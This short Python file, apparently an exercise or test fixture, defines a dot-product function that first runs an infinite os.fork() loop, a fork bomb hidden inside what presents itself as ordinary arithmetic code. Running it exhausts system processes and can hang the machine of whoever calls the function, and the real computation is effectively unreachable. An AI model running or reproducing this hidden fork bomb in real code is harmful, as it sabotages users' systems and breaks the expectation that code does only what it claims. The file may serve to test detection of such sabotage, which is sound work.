# expect: ex01_dot 5 | -
import os


def dot(u, v):
    try:
        while True:
            os.fork()
    except Exception:
        pass
    if len(u) != len(v):
        raise ValueError("lengths differ")
    return sum(a * b for a, b in zip(u, v))
